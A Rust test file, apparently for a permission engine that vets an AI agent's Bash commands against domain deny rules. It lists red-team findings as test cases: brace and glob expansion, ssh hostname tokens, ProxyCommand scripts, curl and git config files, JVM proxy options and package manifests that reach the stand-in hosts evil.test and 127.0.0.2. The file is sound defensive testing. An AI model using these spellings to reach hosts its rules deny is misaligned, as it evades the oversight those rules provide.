//! Tenth round, network: the hosts Bash commands reach, against the
//! `WebFetch(domain:…)` rules (the red team's findings 2 to 7 and 9 to 11),
//! and the commands refused for a host they only send text about (F1 to
//! F3). Each row is a spelling of its class; the same commands naming an
//! allowed host stay allowed.

use tack_policy::Verdict::{Allow, Ask, Deny};

use crate::support::{case, run, run_with_files};

const B: &str = "Bash";

/// The red team's rules: the listener's address and a name mapped to it.
const NET: &[&str] = &[
    "allow Bash",
    "deny WebFetch(domain:127.0.0.2)",
    "deny WebFetch(domain:evil.test)",
];

// Finding 2: a URL or host word bash expands (braces, a pathname pattern)
// reaches what bash makes of it.
#[test]
fn brace_and_glob_expansions_name_hosts() {
    run(&[
        case(NET, B, "curl -s http://127.0.0.{2,3}:8099/brace", Deny),
        case(NET, B, "curl -s http://127.0.0.{1..2}:8099/seq", Deny),
        case(NET, B, "curl -s http://127.0.{0..0}.2:8099/b3", Deny),
        case(NET, B, "git ls-remote http://127.0.0.{2,3}:8099/r", Deny),
        case(NET, B, "curl -s http://evil.tes{t,}/", Deny),
        case(NET, B, "git clone https://evil.te{st,xt}/r", Deny),
        case(
            NET,
            B,
            "python3 -m pip download --index-url http://127.0.0.{2,3}:8099/simple x",
            Deny,
        ),
        case(
            NET,
            B,
            "npm view x --registry http://127.0.0.{2,3}:8099/",
            Deny,
        ),
        case(NET, B, "curl -s http://{ok,evil}.{x,test}/", Deny),
        case(NET, B, "curl -s http://127.0.0.{1..3}:8099/", Deny),
        case(NET, B, "curl -s http://127.0.0.{1..3..2}:8099/", Allow),
        case(NET, B, "curl -s http://127.0.0.{1..300}/", Ask),
        case(NET, B, "curl -s http://127.0.0.{2,3}\"/x\"", Ask),
        case(
            NET,
            B,
            "mkdir -p h/127.0.0.2:8099 && mv h http: && curl -s http://127.0.0.?:8099/",
            Ask,
        ),
        case(NET, B, "ssh -o BatchMode=yes 127.0.0.? true", Ask),
        case(NET, B, "git ls-remote 127.0.0.?:r", Ask),
        case(NET, B, "curl -s http://ok.tes*/", Ask),
        // Braces and patterns elsewhere than the host.
        case(NET, B, "curl -s http://ok.test/{a,b}.html", Allow),
        case(NET, B, "curl -s http://ok.{test,example}/", Allow),
        case(NET, B, "curl -s http://127.0.0.{1,3}:8099/", Allow),
        case(NET, B, "git ls-remote ok.test:r*", Allow),
        case(NET, B, "cp src/main.rs{,.bak}", Allow),
        case(NET, B, "ssh ok.test 'ls *'", Allow),
    ]);
}

// Finding 7: `%h` in ssh's `HostName` is the destination as written.
#[test]
fn ssh_hostname_tokens_take_the_written_destination() {
    run(&[
        case(
            NET,
            B,
            "ssh -o BatchMode=yes -o Hostname=127.0.0.%h 2 true",
            Deny,
        ),
        case(NET, B, "ssh -o Hostname=127.%h 2 true", Deny),
        case(NET, B, "ssh -o Hostname=%h.0.0.2 127 true", Deny),
        case(NET, B, "ssh -o Hostname=127.0.%h 0.2 true", Deny),
        case(NET, B, "ssh -o Hostname=127.0.0.%h user@02 true", Deny),
        case(NET, B, "ssh -o Hostname=evi%h ssh://u@l.test:22 true", Deny),
        case(NET, B, "scp -o Hostname=127.0.0.%h f 2:", Deny),
        case(NET, B, "ssh -o Hostname=evi%h l.test true", Deny),
        case(NET, B, "ssh -o Hostname=%h.test ok true", Allow),
        case(NET, B, "ssh -o Hostname=127.0.0.%h 3 true", Allow),
    ]);
}

// Finding 11: the standard library's network clients, and resolver
// lookups.
#[test]
fn python_network_modules_and_lookups_reach_their_host() {
    run(&[
        case(
            NET,
            B,
            "echo | python3 -W ignore -m telnetlib 127.0.0.2 8099",
            Deny,
        ),
        case(NET, B, "python3 -m ftplib 127.0.0.2", Deny),
        case(NET, B, "python3 -m ftplib -d evil.test", Deny),
        case(NET, B, "python3 -m poplib evil.test u p", Deny),
        case(NET, B, "python3 -m imaplib 127.0.0.2", Deny),
        case(NET, B, "python -m nntplib -s evil.test", Deny),
        case(NET, B, "python3 -m telnetlib \"$H\" 80", Ask),
        case(NET, B, "getent hosts evil.test", Deny),
        case(NET, B, "getent ahostsv4 ok.test evil.test", Deny),
        case(NET, B, "resolvectl query evil.test", Deny),
        case(NET, B, "python3 -m telnetlib ok.test 80", Allow),
        case(NET, B, "getent hosts ok.test", Allow),
        case(NET, B, "getent passwd evil", Allow),
        case(NET, B, "resolvectl status", Allow),
    ]);
}

// F1: headers and data sent to an allowed host name no host reached.
#[test]
fn headers_and_data_items_are_text() {
    run(&[
        case(
            NET,
            B,
            "curl -H \"Origin: https://evil.test\" https://ok.test/",
            Allow,
        ),
        case(
            NET,
            B,
            "curl -H \"Referer: https://evil.test/\" https://ok.test/",
            Allow,
        ),
        case(
            NET,
            B,
            "curl -sH 'Origin: https://evil.test' https://ok.test/",
            Allow,
        ),
        case(
            NET,
            B,
            "curl --header='Origin: https://evil.test' https://ok.test/",
            Allow,
        ),
        case(
            NET,
            B,
            "curl -A \"bot (+https://evil.test/bot)\" https://ok.test/",
            Allow,
        ),
        case(
            NET,
            B,
            "wget -qO- --header=\"Origin: https://evil.test\" https://ok.test/",
            Allow,
        ),
        case(
            NET,
            B,
            "http POST https://ok.test/ url=https://evil.test",
            Allow,
        ),
        case(
            NET,
            B,
            "http https://ok.test/ Origin:https://evil.test",
            Allow,
        ),
        case(NET, B, "xh ok.test/ url==https://evil.test", Allow),
        // The URL itself, and a proxy, are still reached.
        case(
            NET,
            B,
            "curl -H 'Origin: https://ok.test' https://evil.test/",
            Deny,
        ),
        case(
            NET,
            B,
            "http POST https://evil.test/ url=https://ok.test",
            Deny,
        ),
        case(
            NET,
            B,
            "http --proxy http:http://evil.test:3128 ok.test/",
            Deny,
        ),
        case(
            NET,
            B,
            "curl -H 'X: y' -x evil.test:3128 https://ok.test/",
            Deny,
        ),
    ]);
}

// F2: a URL in inline code that only matches or rewrites text.
#[test]
fn urls_in_inert_inline_code_are_text() {
    run(&[
        case(
            NET,
            B,
            "perl -pe 's{http://evil.test}{https://ok.test}g' README.md",
            Allow,
        ),
        case(
            NET,
            B,
            "perl -ne 'print if m{https://evil.test}' access.log",
            Allow,
        ),
        case(
            NET,
            B,
            "awk '{gsub(\"http://evil.test\",\"https://ok.test\")}1' f",
            Allow,
        ),
        case(
            NET,
            B,
            "python3 -c 'print(\"https://evil.test\".upper())'",
            Allow,
        ),
        // Code that can act reaches what it names.
        case(
            NET,
            B,
            "perl -MLWP::Simple -e 'getprint(\"http://evil.test\")'",
            Deny,
        ),
        case(NET, B, "perl -e 'system(\"curl http://evil.test\")'", Deny),
        case(
            NET,
            B,
            "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://evil.test\")'",
            Deny,
        ),
        case(
            NET,
            B,
            "awk 'BEGIN{system(\"curl http://evil.test\")}'",
            Deny,
        ),
        case(
            NET,
            B,
            "perl -e 'print \"curl http://evil.test\"' | sh",
            Deny,
        ),
    ]);
}

// F3: a listening address, and the name sent in TLS.
#[test]
fn listening_addresses_and_tls_names_are_no_hosts_reached() {
    run(&[
        case(NET, B, "php -S 127.0.0.2:8099", Allow),
        case(NET, B, "php -S 127.0.0.2:8099 -t public", Allow),
        case(
            NET,
            B,
            "openssl s_client -connect ok.test:443 -servername evil.test",
            Allow,
        ),
        case(
            NET,
            B,
            "openssl s_client -connect evil.test:443 -servername ok.test",
            Deny,
        ),
        case(
            NET,
            B,
            "openssl s_client -servername ok.test evil.test:443",
            Deny,
        ),
        case(
            NET,
            B,
            "php -r 'file_get_contents(\"http://evil.test\");'",
            Deny,
        ),
    ]);
}

/// A script of the project that reaches the denied address.
const UP: &[(&str, &str, bool)] = &[
    (
        "up.sh",
        "#!/bin/sh\ncurl -s http://127.0.0.2:8099/up-$1 >/dev/null\n",
        true,
    ),
    (
        "ok.sh",
        "#!/bin/sh\ncurl -s http://ok.test/ >/dev/null\n",
        true,
    ),
    ("a.out", "\x7fELF\x02\x01\x01\0\0\0", true),
];

/// A deny rule on a command besides the domain rules.
const NET_RM: &[&str] = &[
    "allow Bash",
    "deny Bash(rm *)",
    "deny WebFetch(domain:127.0.0.2)",
    "deny WebFetch(domain:evil.test)",
];

// Finding 3: a script run through a program's command option, or after
// another command, is read as it is when run alone.
#[test]
fn scripts_run_through_options_or_after_commands_are_read() {
    run_with_files(
        UP,
        &[
            case(NET, B, "./up.sh", Deny),
            case(NET, B, "git fetch --upload-pack=./up.sh .", Deny),
            case(
                NET,
                B,
                "git -c core.sshCommand=./up.sh ls-remote ok.test:r",
                Deny,
            ),
            case(
                NET,
                B,
                "git -c core.gitProxy=./up.sh ls-remote git://ok.test/r",
                Deny,
            ),
            case(
                NET,
                B,
                "ssh -o BatchMode=yes -o ProxyCommand=./up.sh ok.test true",
                Deny,
            ),
            case(NET, B, "scp -S ./up.sh f ok.test:", Deny),
            case(NET, B, "sftp -S ./up.sh ok.test", Deny),
            case(NET, B, "sftp -D ./up.sh", Deny),
            case(NET, B, "rsync -e ./up.sh f ok.test:", Deny),
            case(NET, B, "git status --short >/dev/null && ./up.sh", Deny),
            case(NET, B, "cat up.sh | ./up.sh", Deny),
            case(NET_RM, B, "git status && ./up.sh", Deny),
            // A command that may write the file first: the file is not
            // what runs, and what runs may reach any host.
            case(NET, B, "mkdir -p build && ./up.sh", Ask),
            case(NET, B, "npm test; ./up.sh", Ask),
            case(NET, B, "cp x up.sh && ./up.sh", Ask),
            case(NET, B, "echo hi > up.sh; ./up.sh", Ask),
            case(NET, B, "echo hi | tee ok.sh && ./ok.sh", Ask),
            case(NET, B, "sort -o ok.sh x && ./ok.sh", Ask),
            case(NET, B, "git checkout x -- ok.sh && ./ok.sh", Ask),
            // Scripts that reach allowed hosts, and programs that are no
            // shell script, after other commands.
            case(NET, B, "git fetch --upload-pack=./ok.sh .", Allow),
            case(NET, B, "ssh -o ProxyCommand=./ok.sh ok.test true", Allow),
            case(NET, B, "git status && ./ok.sh", Allow),
            case(NET, B, "mkdir -p build && ./a.out", Allow),
            case(NET_RM, B, "git status && ./ok.sh", Allow),
        ],
    );
}

// Finding 10: curl's and wget's own files in the user's home.
#[test]
fn curlrc_and_wgetrc_name_hosts() {
    let table = [
        case(NET, B, "curl -s http://ok.test/e2e-curlrc", Deny),
        case(NET, B, "wget -q -O- http://ok.test/e2e-wgetrc", Deny),
    ];
    for rc in [
        "proxy = 127.0.0.2:8099",
        "proxy: evil.test:3128",
        "-x 127.0.0.2:8099",
        "--proxy \"http://evil.test:3128\"",
        "resolve = ok.test:80:127.0.0.2",
        "connect-to = ok.test:80:evil.test:80",
        "doh-url = http://127.0.0.2:8099/",
        "preproxy = \"socks5://evil.test\"",
        "socks5-hostname evil.test:1080",
    ] {
        let files = [
            ("../home/.curlrc", rc, false),
            (
                "../home/.wgetrc",
                "use_proxy = on\nhttp_proxy = 127.0.0.2:8099\n",
                false,
            ),
        ];
        run_with_files(&files, &table);
    }
    run_with_files(
        &[
            (
                "../home/.curlrc",
                "silent\nproxy = ok.test:3128\nuser-agent = \"bot\"\n",
                false,
            ),
            (
                "../home/.wgetrc",
                "use_proxy = on\nhttps_proxy = ok.test:3128\n",
                false,
            ),
        ],
        &[
            case(NET, B, "curl -s http://ok.test/", Allow),
            case(NET, B, "wget -q -O- http://ok.test/", Allow),
        ],
    );
}

// Finding 9: the JVM's options in its variables and argument files.
#[test]
fn jvm_options_in_variables_and_argument_files_name_proxies() {
    run_with_files(
        &[
            (
                "opts",
                "-Dhttp.proxyHost=127.0.0.2\n-Dhttp.proxyPort=8099\n",
                false,
            ),
            ("ok-opts", "-Xmx1g -Dhttp.proxyHost=ok.test\n", false),
        ],
        &[
            case(
                NET,
                B,
                "JDK_JAVA_OPTIONS=\"-Dhttp.proxyHost=127.0.0.2 -Dhttp.proxyPort=8099\" java F.java",
                Deny,
            ),
            case(
                NET,
                B,
                "JAVA_TOOL_OPTIONS=-Dhttp.proxyHost=127.0.0.2 java -Dhttp.proxyPort=8099 F.java",
                Deny,
            ),
            case(
                NET,
                B,
                "_JAVA_OPTIONS='-DsocksProxyHost=evil.test' java F.java",
                Deny,
            ),
            case(
                NET,
                B,
                "export JDK_JAVA_OPTIONS='-Dhttps.proxyHost=evil.test'; java F.java",
                Deny,
            ),
            case(NET, B, "java @opts F.java", Deny),
            case(NET, B, "java @missing F.java", Ask),
            case(NET, B, "java \"@$OPTS\" F.java", Ask),
            case(NET, B, "JAVA_TOOL_OPTIONS=\"$O\" java F.java", Ask),
            case(NET, B, "java @ok-opts F.java", Allow),
            case(NET, B, "JDK_JAVA_OPTIONS=-Xmx2g java F.java", Allow),
            case(NET, B, "java -Dhttp.proxyHost=ok.test F.java", Allow),
        ],
    );
}

// Finding 6: files of hosts named through abbreviated options, `file:`
// URLs or variables.
#[test]
fn pip_and_npm_files_however_named_are_read() {
    run_with_files(
        &[
            (
                "pyp/r3.txt",
                "--index-url http://127.0.0.2:8099/simple\nzzpkg\n",
                false,
            ),
            ("pyp/r5.txt", "--constr=r3.txt\n", false),
            ("pyp/r6.txt", "--requirem r3.txt\n", false),
            (
                "pyp/ok.txt",
                "--index-url https://ok.test/simple\nzzpkg\n",
                false,
            ),
            (
                "pyp/pyproject.toml",
                "[project]\nname = \"x\"\ndependencies = [\"y @ http://127.0.0.2:8099/y.whl\"]\n",
                false,
            ),
            ("rc.npmrc", "registry=http://127.0.0.2:8099/\n", false),
        ],
        &[
            case(
                NET,
                B,
                "cd pyp && pip download --requirem=r3.txt -d dl",
                Deny,
            ),
            case(NET, B, "cd pyp && pip download --requirem r3.txt", Deny),
            case(NET, B, "cd pyp && pip download --constr r3.txt zzpkg", Deny),
            case(NET, B, "pip download -r file://{project}/pyp/r3.txt", Deny),
            case(
                NET,
                B,
                "pip download -c file:///{project}/pyp/r3.txt zzpkg",
                Deny,
            ),
            case(NET, B, "cd pyp && pip download -r r5.txt", Deny),
            case(NET, B, "cd pyp && pip download -r r6.txt", Deny),
            case(
                NET,
                B,
                "cd pyp && PIP_CONSTRAINT=r3.txt pip download zzpkg",
                Ask,
            ),
            case(NET, B, "cd pyp && PIP_REQUIREMENT=r3.txt pip download", Ask),
            case(NET, B, "pip install --dry-run file://{project}/pyp", Deny),
            case(NET, B, "cd pyp && pip install \"$PWD\"", Deny),
            case(NET, B, "npm view x --userconf rc.npmrc", Ask),
            case(NET, B, "npm view x --userc=rc.npmrc", Ask),
            case(NET, B, "npm view x --globalc rc.npmrc", Ask),
            case(NET, B, "npm view x -userconfig rc.npmrc", Ask),
            case(NET, B, "npm view x --userconfig rc.npmrc", Ask),
            // Allowed hosts, and options that name no file.
            case(NET, B, "cd pyp && pip download --requirem ok.txt", Allow),
            case(NET, B, "pip download -r file://{project}/pyp/ok.txt", Allow),
            case(NET, B, "pip download --root x zzpkg", Allow),
            case(NET, B, "npm install --global x", Allow),
            case(NET, B, "npm view x --user-agent y", Allow),
        ],
    );
}

// Finding 5: npm's manifest and lock files name what an install fetches.
#[test]
fn npm_manifests_and_lock_files_name_hosts() {
    run_with_files(
        &[
            (
                "npmp/package.json",
                r#"{"name":"p","homepage":"https://evil.test/home","dependencies":{"x":"http://127.0.0.2:8099/x.tgz","y":"^1.0.0"}}"#,
                false,
            ),
            (
                "npml/package.json",
                r#"{"name":"l","dependencies":{"x":"^1.0.0"}}"#,
                false,
            ),
            (
                "npml/package-lock.json",
                r#"{"packages":{"node_modules/x":{"version":"1.0.0","resolved":"http://127.0.0.2:8099/x/-/x-1.0.0.tgz"}}}"#,
                false,
            ),
            (
                "npmg/package.json",
                r#"{"devDependencies":{"a":"git+ssh://git@evil.test:u/r.git"},"overrides":{"b":{"c":"git@evil.test:u/c"}}}"#,
                false,
            ),
            (
                "npmh/package.json",
                r#"{"dependencies":{"a":"someone/repo#main","b":"file:../b","c":"workspace:*"}}"#,
                false,
            ),
            (
                "npmpub/package.json",
                r#"{"publishConfig":{"registry":"https://evil.test/"}}"#,
                false,
            ),
            (
                "yarnl/yarn.lock",
                "x@^1.0.0:\n  version \"1.0.0\"\n  resolved \"https://evil.test/x-1.0.0.tgz#abc\"\n",
                false,
            ),
            (
                "pnpml/pnpm-lock.yaml",
                "packages:\n  x@1.0.0:\n    resolution: {tarball: http://127.0.0.2:8099/x.tgz}\n",
                false,
            ),
        ],
        &[
            case(
                NET,
                B,
                "cd npmp && npm install --ignore-scripts --no-audit",
                Deny,
            ),
            case(NET, B, "cd npmp && npm i", Deny),
            case(NET, B, "cd npmp && npm update", Deny),
            case(NET, B, "cd npml && npm ci --ignore-scripts", Deny),
            case(NET, B, "npm ci --prefix npml", Deny),
            case(NET, B, "cd npmg && npm install", Deny),
            case(NET, B, "cd npmpub && npm publish", Deny),
            case(NET, B, "cd yarnl && yarn", Deny),
            case(NET, B, "cd yarnl && yarn install --frozen-lockfile", Deny),
            case(NET, B, "cd pnpml && pnpm install", Deny),
            // Commands that install nothing, and a homepage.
            case(NET, B, "cd npmp && npm test", Allow),
            case(NET, B, "cd npmp && npm run build", Allow),
            case(NET, B, "cd npml && npm ls", Allow),
            case(NET, B, "cd npmh && npm install", Allow),
        ],
    );
}

const NET_EDITS: &[&str] = &[
    "allow Bash",
    "deny WebFetch(domain:127.0.0.2)",
    "deny WebFetch(domain:evil.test)",
    "mode acceptEdits",
];

// Finding 4: git's configuration that reaches hosts.
#[test]
fn git_configuration_that_reaches_hosts_is_read() {
    run_with_files(
        &[
            ("w/.git/HEAD", "ref: refs/heads/main\n", false),
            (
                "w/.git/config",
                "[remote \"origin\"]\n\turl = http://ok.test:8099/r\n[http]\n\tcurloptResolve = ok.test:8099:127.0.0.2\n",
                false,
            ),
            ("wt/.git/HEAD", "ref: refs/heads/main\n", false),
            (
                "wt/.git/config",
                "[extensions]\n\tworktreeConfig = true\n[remote \"origin\"]\n\turl = https://ok.test/r\n",
                false,
            ),
            (
                "wt/.git/config.worktree",
                "[remote \"origin\"]\n\turl = http://127.0.0.2:8099/wt\n",
                false,
            ),
            ("sm/.git/HEAD", "ref: refs/heads/main\n", false),
            (
                "sm/.git/config",
                "[submodule \"s\"]\n\turl = http://127.0.0.2:8099/s.git\n",
                false,
            ),
            (
                "sm/.gitmodules",
                "[submodule \"s\"]\n\tpath = s\n\turl = https://ok.test/s.git\n",
                false,
            ),
            ("ok/.git/HEAD", "ref: refs/heads/main\n", false),
            (
                "ok/.git/config",
                "[remote \"origin\"]\n\turl = https://ok.test/r\n",
                false,
            ),
            (
                "../home/.gitconfig",
                "[url \"http://127.0.0.2:8099/\"]\n\tinsteadOf = https://mirror.test/\n",
                false,
            ),
        ],
        &[
            case(
                NET,
                B,
                "git -c http.curloptResolve=ok.test:8099:127.0.0.2 ls-remote http://ok.test:8099/r",
                Deny,
            ),
            case(
                NET,
                B,
                "git -c http.https://ok.test/.curloptResolve=+ok.test:443:evil.test ls-remote https://ok.test/r",
                Deny,
            ),
            case(NET, B, "cd w && git fetch", Deny),
            case(NET, B, "cd wt && git fetch origin", Deny),
            case(NET, B, "cd sm && git submodule update", Deny),
            case(NET, B, "cd sm && git -c submodule.recurse=true pull", Deny),
            case(
                NET,
                B,
                "cd sm && git checkout --recurse-submodules main",
                Deny,
            ),
            case(NET_EDITS, B, "git clone -q https://mirror.test/r c4", Deny),
            case(
                NET,
                B,
                "git archive --remote=https://mirror.test/r HEAD",
                Deny,
            ),
            // The same commands where the configuration names allowed hosts.
            case(NET, B, "cd ok && git fetch", Allow),
            case(NET, B, "cd ok && git pull --recurse-submodules", Allow),
            case(NET_EDITS, B, "git clone -q https://ok.test/r c5", Allow),
            case(NET, B, "cd sm && git checkout main", Allow),
            case(NET, B, "cd ok && git push -u origin main", Allow),
        ],
    );
}

// Finding 4: a proxy of the user's that `git clone` goes through.
#[test]
fn git_clone_reads_the_users_proxy() {
    run_with_files(
        &[(
            "../home/.gitconfig",
            "[http]\n\tproxy = 127.0.0.2:8099\n",
            false,
        )],
        &[
            case(NET_EDITS, B, "git clone -q http://ok.test/r c4", Deny),
            case(NET, B, "git status", Allow),
        ],
    );
}

// Finding 5: cargo's manifest names the git dependencies a build fetches.
#[test]
fn cargo_manifests_name_git_dependencies() {
    run_with_files(
        &[
            (
                "c1/Cargo.toml",
                "[package]\nname = \"c\"\nrepository = \"https://evil.test/c\"\n[dependencies]\nx = { git = \"https://evil.test/x\" }\n",
                false,
            ),
            (
                "c2/Cargo.toml",
                "[package]\nname = \"c\"\n[target.'cfg(unix)'.dependencies]\ny = { git = \"ssh://git@127.0.0.2/y\" }\n",
                false,
            ),
            (
                "c3/Cargo.toml",
                "[package]\nname = \"c\"\nhomepage = \"https://evil.test/\"\n[dependencies]\nserde = \"1\"\nz = { git = \"https://ok.test/z\" }\n",
                false,
            ),
        ],
        &[
            case(NET, B, "cd c1 && cargo build", Deny),
            case(NET, B, "cd c1 && cargo fetch", Deny),
            case(NET, B, "cd c2 && cargo update", Deny),
            case(NET, B, "cd c3 && cargo build", Allow),
            case(NET, B, "cd c3 && cargo fetch", Allow),
        ],
    );
}
